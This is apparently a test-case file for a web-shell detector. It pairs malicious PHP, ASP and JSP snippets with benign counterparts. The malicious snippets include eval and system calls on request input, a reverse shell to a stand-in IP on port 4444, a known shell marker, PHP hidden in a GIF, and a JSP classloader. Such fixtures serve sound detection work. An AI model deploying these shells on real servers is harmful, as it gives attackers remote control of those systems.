# ruff: noqa: E501 -- a line of a script is one line here, too
from tests.engine.indicator_cases.case import Case
from tests.engine.script_texts import pair, plain64, whole

PIXEL = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"

CASES = {
    "php.eval_body": pair(
        "a.php",
        "<?php ev¦al(file_get_cont¦ents('php://inp¦ut')); ?>",
        "<?php echo file_get_contents('php://input'); ?>",
    ),
    "php.eval_input": pair("a.php", "<?php ev¦al($_PO¦ST['x']); ?>", "<?php echo htmlspecialchars($_POST['x']); ?>"),
    "php.call_input": pair("a.php", "<?php @$_GE¦T['a']($_PO¦ST['b']); ?>", "<?php echo $_GET['a'], $_POST['b']; ?>"),
    "php.system_input": pair(
        "a.php", "<?php sys¦tem($_GE¦T['c']); ?>", "<?php system('ls ' . escapeshellarg($_GET['c'])); ?>"
    ),
    "php.eval_decoded": pair(
        "a.php",
        f"<?php ev¦al(base64_de¦code('{plain64('echo 1; echo 2;')}')); ?>",
        f"<?php echo base64_decode('{plain64('echo 1;')}'); ?>",
    ),
    "php.reverse_shell": pair(
        "a.php",
        "<?php $s = fsock¦open('192.0.2.1', 4444); $p = proc_¦open('/bin/s¦h -i', $d, $pipes); fwrite($s, fread($pipes[1], 9)); ?>",
        "<?php $s = fsockopen('mail.example.com', 25); fwrite($s, 'HELO'); ?>",
    ),
    "php.known_shell": pair("a.php", "<?php $default_action = 'Files¦Man'; ?>", "<?php $default_action = 'list'; ?>"),
    "php.include_input": pair("a.php", "<?php incl¦ude($_GE¦T['page']); ?>", "<?php include('page.php'); ?>"),
    "php.write_input": pair(
        "a.php",
        "<?php file_put_con¦tents($_PO¦ST['n'], $_PO¦ST['d']); ?>",
        "<?php file_put_contents('log.txt', 'visited'); ?>",
    ),
    "php.upload_anything": pair(
        "a.php",
        "<?php move_upl¦oaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); ?>",
        "<?php move_uploaded_file($_FILES['f']['tmp_name'], 'store/' . bin2hex(random_bytes(8)) . '.png'); ?>",
    ),
    "php.name_built": pair(
        "a.php",
        "<?php $f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116).'x'; ?>",
        "<?php $f = chr(10) . 'next line'; ?>",
    ),
    "php.quiet": pair("a.php", "<?php error_report¦ing(0); set_time_limit(0); ?>", "<?php error_reporting(E_ALL); ?>"),
    "php.in_picture": Case(positive=PIXEL + whole("<?php incl¦ude('x.php'); ?>"), negative=PIXEL, name="a.gif"),
    "asp.eval_input": pair("a.asp", '<%ev¦al request("x")%>', '<%Response.Write Server.HTMLEncode(Request("x"))%>'),
    "asp.system_input": pair(
        "a.asp",
        '<%Set s = CreateObject("WScript.Sh¦ell")\nSet r = s.Ex¦ec("cmd /¦c " & Request("c"))\nResponse.Write r.StdOut.ReadAll%>',
        '<%Response.Write "hello " & Server.HTMLEncode(Request("name"))%>',
    ),
    "jsp.system_input": pair(
        "a.jsp",
        '<%@ page import="java.io.*" %><% Runtime.getRun¦time().ex¦ec(request.getParam¦eter("c")); %>',
        '<%@ page import="java.io.*" %><% out.print(request.getParameter("c").length()); %>',
    ),
    "jsp.class_input": pair(
        "a.jsp",
        '<%! class U extends ClassLoader { Class g(byte[] b) { return define¦Class(b, 0, b.length); } } %><% String k = request.getParam¦eter("k"); %>',
        '<% String k = request.getParameter("k"); %>',
    ),
}
